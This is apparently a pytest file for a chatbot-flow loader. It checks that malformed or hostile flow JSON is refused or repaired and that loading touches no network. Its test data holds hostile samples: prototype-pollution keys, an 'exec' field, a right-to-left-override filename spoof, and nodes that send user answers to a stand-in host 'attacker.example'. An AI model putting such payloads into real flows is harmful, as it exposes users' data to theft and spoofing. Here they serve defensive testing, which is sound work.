"""Sections B and E of flow_json_cases.md: the envelope, its version, the layout, going round."""

import socket
from pathlib import Path
from typing import Any

import orjson
import pytest

from flow_runtime.checks import check
from flow_runtime.flow import SCHEMA_VERSION, dump_flow, logic_sha256
from flow_runtime.loading import load_flow
from flow_runtime.migrations import STEPS, migrate
from flow_runtime.program import compile_flow
from tests.hostile.refusing import FLOW, changed, codes, load, refused

SAMPLES = sorted((Path(__file__).parents[2] / "sample_flows").glob("*.json"))
WITHOUT_VERSION = {key: value for key, value in FLOW.items() if key != "schema_version"}

REFUSED: list[tuple[str, dict[str, Any], str, str]] = [
    ("B01", {"schema_version": None}, "version.missing", "/schema_version"),
    ("B01", {"schema_version": "1"}, "version.type", "/schema_version"),
    ("B01", {"schema_version": 1.0}, "version.type", "/schema_version"),
    ("B01", {"schema_version": True}, "version.type", "/schema_version"),
    ("B01", {"schema_version": 0}, "version.type", "/schema_version"),
    ("B01", {"schema_version": -1}, "version.type", "/schema_version"),
    ("B01", {"schema_version": 999}, "version.newer", "/schema_version"),
    ("B03", {"ui": {}}, "extra_field", "/ui"),
    ("B03", {"start": "n1"}, "extra_field", "/start"),
    ("B04", {"__proto__": {}}, "extra_field", "/__proto__"),
    ("B04", {"constructor": {}}, "extra_field", "/constructor"),
    ("B04", {"__class__": "Flow"}, "extra_field", "/__class__"),
    ("B04", {"exec": "import os"}, "extra_field", "/exec"),
    ("B04", {"a/b~c": 1}, "extra_field", "/a~1b~0c"),
    ("B05", {"nodes": {}}, "type", "/nodes"),
    ("B05", {"nodes": "[]"}, "type", "/nodes"),
    ("B05", {"nodes": [[]]}, "type", "/nodes/0"),
    ("B05", {"edges": None}, "type", "/edges"),
    ("B05", {"variables": 0}, "type", "/variables"),
    ("B05", {"settings": []}, "type", "/settings"),
    ("B06", {"name": ""}, "name.length", "/name"),
    ("B06", {"name": "   "}, "name.empty", "/name"),
    ("B06", {"name": "x" * 10_000}, "name.length", "/name"),
    ("B06", {"name": "Boleto\u202egnp.exe"}, "name.control", "/name"),
    ("B06", {"name": "Um\nDois"}, "name.control", "/name"),
    ("B08", {"status": "published"}, "extra_field", "/status"),
    ("B08", {"approved_by": "admin"}, "extra_field", "/approved_by"),
    ("B10", {"checksum": "0" * 64}, "extra_field", "/checksum"),
]


@pytest.mark.parametrize(
    ("change", "code", "pointer"),
    [pytest.param(*row[1:], id=f"{row[0]}-{place}") for place, row in enumerate(REFUSED)],
)
def test_a_wrong_envelope_is_refused_at_its_place(change: dict[str, Any], code: str, pointer: str):
    (problem,) = refused(changed(**change))
    assert (problem.code, problem.pointer) == (code, pointer)


def test_a_missing_version_is_said_to_be_missing():  # B01
    (problem,) = refused(orjson.dumps(WITHOUT_VERSION))
    assert problem.code == "version.missing"


def test_every_older_version_is_migrated_and_stays_so():  # B02
    assert set(STEPS) == set(range(1, SCHEMA_VERSION)), "one step for each older version"
    assert migrate(migrate(FLOW)) == migrate(FLOW) == FLOW


@pytest.mark.parametrize("name", ["<b>Boleto</b>", "../../x", "CON", "Boleto."])
def test_a_name_is_only_text(name: str):  # B06
    assert load(changed(name=name)).flow.name == name


@pytest.mark.parametrize(
    ("document", "product"),
    [
        ({"version": "6", "groups": [], "events": [], "edges": []}, "Typebot"),
        ({"version": "1", "startNode": "entry", "nodes": [], "catchAll": {}}, "Botpress"),
        ({"name": "x", "nodes": [], "connections": {}, "active": False}, "n8n"),
        ({"nodes": [], "edges": [], "viewport": {"x": 0}}, "Flowise"),
        ({"version": "13", "site": "https://x.example", "flows": [], "triggers": []}, "RapidPro"),
        ([{"id": "1", "type": "tab"}, {"id": "2", "type": "inject", "wires": [[]]}], "Node-RED"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_the_export_of_another_product_is_called_by_its_name(document: Any, product: str):  # B09
    (problem,) = refused(orjson.dumps(document))
    assert problem.code == "json.foreign"
    assert all(product in sentence for sentence in problem.words.values())


def test_rasa_and_bpmn_are_not_taken_for_json():  # B09
    assert codes(refused(b"version: '3.1'\nstories: []\n")) == {"json.syntax"}
    (problem,) = refused(b"<?xml version='1.0'?><bpmn:definitions/>")
    assert "XML" in problem.sentence("pt-BR")


# -- the layout --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "place",
    [[1e12, 0], ["1", "2"], [1], [1, 2, 3], None, {}, [True, False], ["x" * 100_000, 0], "x"],
    ids=str,
)
def test_a_place_that_makes_no_sense_is_dropped(place: Any):  # E01
    loaded = load(changed(layout={"ask": place, "end": [10, 20]}))
    assert loaded.repairs == ("ask",)
    assert loaded.flow.layout == {"end": (10, 20)}


def test_places_of_unknown_nodes_and_junk_are_dropped():  # E01
    junk = {f"n{number}": [number, "x" * 1_000] for number in range(1_000)}
    loaded = load(changed(layout={"gone": [1, 2], **junk}))
    assert len(loaded.repairs) == 1_001
    assert load(changed(layout=[1, 2])).repairs == ("layout",)


def test_moving_a_card_changes_no_hash():  # E01
    here, there = (load(changed(layout={"ask": [x, 0]})).flow for x in (1, 2))
    assert here != there
    assert logic_sha256(here) == logic_sha256(there)


# -- going round -------------------------------------------------------------------------------


@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: f"E06-{path.stem}")
def test_a_flow_goes_out_and_in_without_changing_a_byte(path: Path):
    flow = load_flow(path.read_bytes()).flow
    written = dump_flow(flow)
    again = load_flow(written).flow
    assert again == flow
    assert dump_flow(again) == written
    assert logic_sha256(again) == logic_sha256(flow)


def test_reading_a_hostile_flow_touches_no_network(monkeypatch: pytest.MonkeyPatch):  # E07
    def trip(*_: Any, **__: Any) -> None:
        raise AssertionError("the network was touched")

    for name in ("connect", "connect_ex", "sendto", "bind"):
        monkeypatch.setattr(socket.socket, name, trip)
    monkeypatch.setattr(socket, "getaddrinfo", trip)
    attacker = "https://attacker.example/collect"
    picture = {"kind": "image", "url": f"{attacker}.png"}
    nodes = [
        {"id": "show", "type": "message", "name": "Ver", "bubbles": [picture]},
        {"id": "call", "type": "api", "name": "Enviar", "url": attacker},
        {"id": "tell", "type": "notify", "name": "Avisar", "kind": "webhook", "to": attacker,
         "text": "{{ answer }}"},
    ]  # fmt: skip
    flow = load(changed(nodes=[*FLOW["nodes"], *nodes])).flow
    check(flow)
    compile_flow(flow)
    dump_flow(flow)
